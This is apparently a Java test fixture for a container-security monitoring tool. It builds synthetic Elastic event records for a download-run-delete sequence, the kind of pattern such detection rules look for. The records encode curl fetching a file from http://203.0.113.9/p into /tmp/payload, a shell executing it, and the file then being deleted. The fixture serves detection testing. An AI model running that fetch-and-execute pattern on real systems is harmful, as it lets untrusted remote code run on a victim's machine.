package io.ncwatch.job;

import io.ncwatch.record.RawEvent;
import java.time.Instant;
import java.util.List;

/**
 * Defend for Containers events of a download that is run and deleted, the shape Elastic's container
 * sequence rules look for: a file created by curl in {@code /tmp}, run from a shell, then deleted; and
 * a curl whose output a shell runs (the same parent).
 */
final class SequenceTraffic {
    static final long T0 = Instant.parse("2026-11-28T06:12:00Z").toEpochMilli();

    private SequenceTraffic() {}

    /** In one container, with an event of another container among them; event ids {@code <container>-f1} and so on. */
    static List<RawEvent> downloadRunDelete(String container, String other) {
        List<String> events = List.of(
                process("p1", 0, container, "curl", "/usr/bin/curl", "bash", "curl", "-o", "/tmp/payload", "http://203.0.113.9/p"),
                file("f1", 100, container, "creation", "/tmp/payload", "curl"),
                process("p2", 200, container, "sh", "/bin/sh", "bash", "sh"),
                process("o1", 250, other, "sleep", "/bin/sleep", "bash", "sleep", "60"),
                process("p3", 500, container, "payload", "/tmp/payload", "sh", "/tmp/payload"),
                file("f2", 1_000, container, "deletion", "/tmp/payload", "payload"));
        return events.stream().map(json -> TestEvents.raw(json, 0)).toList();
    }

    private static String process(String id, long at, String container, String name, String executable, String parent,
            String... args) {
        return "{\"@timestamp\":\"" + Instant.ofEpochMilli(T0 + at) + "\",\"event\":{\"id\":\"" + container + "-" + id + "\","
                + "\"category\":[\"process\"],\"type\":[\"start\"],\"action\":\"exec\"},"
                + "\"process\":{\"entity_id\":\"ent-" + id + "\",\"name\":\"" + name + "\",\"executable\":\"" + executable
                + "\",\"args\":[" + quoted(args) + "],\"interactive\":false,"
                + "\"parent\":{\"entity_id\":\"parent-1\",\"name\":\"" + parent + "\"}},"
                + common(container) + "}";
    }

    private static String file(String id, long at, String container, String action, String path, String process) {
        return "{\"@timestamp\":\"" + Instant.ofEpochMilli(T0 + at) + "\",\"event\":{\"id\":\"" + container + "-" + id + "\","
                + "\"category\":[\"file\"],\"type\":[\"" + action + "\"],\"action\":\"" + action + "\"},"
                + "\"file\":{\"path\":\"" + path + "\",\"name\":\"" + path.substring(path.lastIndexOf('/') + 1) + "\"},"
                + "\"process\":{\"entity_id\":\"ent-" + process + "\",\"name\":\"" + process + "\","
                + "\"parent\":{\"entity_id\":\"parent-1\",\"name\":\"bash\"}},"
                + common(container) + "}";
    }

    private static String common(String container) {
        return "\"user\":{\"id\":\"0\"},\"container\":{\"id\":\"" + container + "\"},\"host\":{\"os\":{\"type\":\"linux\"}}";
    }

    private static String quoted(String... values) {
        StringBuilder list = new StringBuilder();
        for (String value : values) {
            list.append(list.isEmpty() ? "" : ",").append('"').append(value).append('"');
        }
        return list.toString();
    }
}
